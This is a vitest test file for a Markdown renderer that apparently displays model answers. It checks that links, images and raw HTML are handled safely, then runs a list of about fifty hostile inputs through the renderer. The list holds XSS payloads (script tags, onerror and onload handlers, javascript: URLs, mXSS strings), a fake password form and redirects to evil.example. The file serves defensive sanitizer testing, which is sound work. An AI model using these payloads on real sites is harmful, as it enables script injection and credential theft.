import { describe, expect, it } from 'vitest';
import { htmlOf } from './markdown';

function drawn(markdown: string): HTMLElement {
  const element = document.createElement('div');
  element.innerHTML = htmlOf(markdown);
  return element;
}

describe('Markdown', () => {
  it('becomes headings below those of the page, lists, tables, code', () => {
    const page = drawn(
      '# Top\n\n- [x] done\n- *open*\n\n| n |\n|--:|\n| 1 |\n\n```js\nif (a < b) go();\n```',
    );
    expect(page.querySelector('h3')).toHaveTextContent('Top');
    expect(page.querySelectorAll('li')).toHaveLength(2);
    expect(page.querySelector('li')).toHaveTextContent('☑ done');
    expect(page.querySelector('td')).toHaveAttribute('align', 'right');
    expect(page.querySelector('pre')).toHaveTextContent('if (a < b) go();');
    expect(page.querySelector('pre')).toHaveAttribute('tabindex', '0');
  });

  it('opens links elsewhere, without telling where from, and shows where they lead', () => {
    const link = drawn('[your bank](https://example.org/a?b=1&c=2)').querySelector('a');
    expect(link).toHaveAttribute('href', 'https://example.org/a?b=1&c=2');
    expect(link).toHaveAttribute('title', 'https://example.org/a?b=1&c=2');
    expect(link).toHaveAttribute('target', '_blank');
    expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow');
    expect(drawn('<mia@example.org>').querySelector('a')?.href).toBe('mailto:mia@example.org');
  });

  it('shows an image as a link to it: looking at an answer asks no other server', () => {
    const page = drawn('![a chart](https://tracker.example/x.png?who=me)');
    expect(page.querySelector('img')).toBeNull();
    expect(page.querySelector('a')).toHaveTextContent('a chart');
  });

  it('shows HTML as text', () => {
    const page = drawn('Use <b onclick="x()">bold</b>.\n\n<div class="fixed">block</div>');
    expect(page.querySelector('b, [class], [onclick]')).toBeNull();
    expect(page).toHaveTextContent('Use <b onclick="x()">bold</b>. <div class="fixed">block</div>');
  });

  it('survives what is nested deeper than anybody reads', () => {
    const deep = `${'>'.repeat(20_000)} a`;
    expect(drawn(deep).textContent).toContain('a');
    expect(drawn(`${'['.repeat(5_000)}a`).textContent).toContain('a');
  });
});

// What a model may be talked into writing. Each has to come out without anything that acts.
const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<style>* { display: none }</style>',
  '<p style="position:fixed;inset:0">over everything</p>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java&#10;script:alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](\u0001javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](data:image/svg+xml;base64,PHN2Zz4=)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://example.org/1)',
  '[x](//evil.example/)',
  '[x](/api/auth/logout)',
  '[x](?delete=1)',
  '[x](https://bank.example@evil.example/)',
  '[x](https://user:password@evil.example/)',
  '[x]: javascript:alert(1)\n\n[x]',
  '![x](javascript:alert(1))',
  '![x"onerror="alert(1)](y)',
  '![x](https://evil.example/"onerror="alert(1))',
  '[x](https://evil.example/ "a\\" onmouseover=\\"alert(1)")',
  '[x](https://evil.example/"onmouseover="alert(1))',
  '`<img src=x onerror=alert(1)>`',
  '```"><img/src=x/onerror=alert(1)>\ncode\n```',
  '```\n</code></pre><script>alert(1)</script>\n```',
  '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |',
  '# <a id=location name=location href=x>clobbers</a>',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<x/onclick=alert(1)>',
  '<<script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\<script>alert(1)\\</script>',
  '<a href="https://evil.example/" target=_self ping="https://evil.example/p">x</a>',
];

const tags =
  /^(A|BLOCKQUOTE|BR|CODE|DEL|DIV|EM|H[3-6]|HR|LI|OL|P|PRE|STRONG|TABLE|TBODY|TD|TH|THEAD|TR|UL)$/;
const attributes = /^(align|href|rel|start|tabindex|target|title)$/;

describe('hostile Markdown', () => {
  it.each(hostile)('does nothing: %s', (markdown) => {
    for (const element of drawn(markdown).querySelectorAll('*')) {
      expect(element.tagName).toMatch(tags);
      for (const { name } of element.attributes) expect(name).toMatch(attributes);
      const href = element.getAttribute('href');
      if (href === null) continue;
      expect(href).toMatch(/^(https?:\/\/|mailto:)/);
      expect(new URL(href).username).toBe('');
      expect(element).toHaveAttribute('target', '_blank');
    }
  });
});
